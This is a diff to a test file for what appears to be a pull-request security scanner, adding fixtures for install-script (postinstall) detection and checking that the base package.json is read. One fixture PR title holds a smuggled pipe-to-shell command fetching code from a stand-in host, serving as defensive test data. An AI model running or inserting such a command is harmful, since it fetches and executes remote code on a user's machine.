@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { callersWanted, localCalleesOf } from '../../src/ecosystems/github-actions/cross-file-injection.js';
 import { hasShellPayload } from '../../src/ecosystems/github-actions/pr-metadata.js';
 import { createOctokit } from '../../src/github/create-octokit.js';
+import { installManifestsWanted } from '../../src/ecosystems/build-code/build-files.js';
 import { fetchPrData, MAX_BASE_WORKFLOWS } from '../../src/github/fetch-pr-data.js';
 import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
 import { makePrFixture, typicalPrFixture, type PrFixture } from '../support/pr-fixture.js';
@@ -22,6 +23,9 @@ let dispatch: PrFixture;
 let caller: PrFixture;
 let quietCaller: PrFixture;
 let both: PrFixture;
+let setupScript: PrFixture;
+let setupNoManifest: PrFixture;
+let readmeWithManifest: PrFixture;
 
 beforeAll(async () => {
   server = await startGitHubServer();
@@ -76,6 +80,10 @@ beforeAll(async () => {
     }),
   );
   many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
+  const setupFiles = [{ path: 'scripts/setup.js', base: "'use strict';\n", head: "'use strict';\nrequire('./stage.js');\n" }];
+  setupScript = server.addPullRequest(makePrFixture({ ...base, number: 20, files: setupFiles, baseFiles: { 'package.json': '{"name":"proxy","scripts":{"postinstall":"node scripts/setup.js"}}\n' } }));
+  setupNoManifest = server.addPullRequest(makePrFixture({ ...base, number: 21, files: setupFiles }));
+  readmeWithManifest = server.addPullRequest(makePrFixture({ ...base, number: 22, baseFiles: { 'package.json': '{"name":"proxy","scripts":{"postinstall":"node scripts/setup.js"}}\n' } }));
 });
 afterAll(async () => {
   await server.close();
@@ -84,7 +92,7 @@ afterAll(async () => {
 async function analyze(fixture: PrFixture) {
   server.reset();
   const { octokit, requestCount } = createOctokit({ baseUrl: server.apiUrl, retryBaseMs: 1, timeoutMs: 2000, log: { warn: () => undefined } });
-  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf });
+  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf, baseManifests: installManifestsWanted });
   return { snapshot, requests: requestCount() };
 }
 
@@ -151,6 +159,20 @@ describe('reading the local actions a changed caller passes outsider-written tex
     expect(reads.filter((u, i) => reads.indexOf(u) !== i)).toEqual([]);
     // Read for all three reasons: the base's workflows (other.yml, ci.yml, lint.yml's base) and the unchanged callee.
     expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/workflows/ci.yml', '.github/workflows/lint.yml', '.github/workflows/other.yml']);
+  });
+});
+
+describe('reading the base package.json for a changed file its install script may run', () => {
+  it('reads it through the root tree when the PR changes a script and not package.json; a base without one costs no request', async () => {
+    const { snapshot } = await analyze(setupScript);
+    expect(snapshot.baseFiles.find((f) => f.path === 'package.json')?.content).toContain('node scripts/setup.js');
+    expect(snapshot.warnings).toEqual([]);
+    const read = await analyze(setupNoManifest);
+    expect(read.snapshot.baseFiles).toEqual([]);
+    expect(server.requests.some((r) => /\/contents\/package\.json|\/git\/blobs\//.test(decodeURIComponent(r.path)))).toBe(false);
+    // A README change asks for nothing: the root tree only, as for every PR.
+    await analyze(readmeWithManifest);
+    expect(server.requests.filter((r) => /\/git\/(?:trees|blobs)\/|\/contents\/package\.json/.test(decodeURIComponent(r.path)))).toHaveLength(1);
   });
 });
 
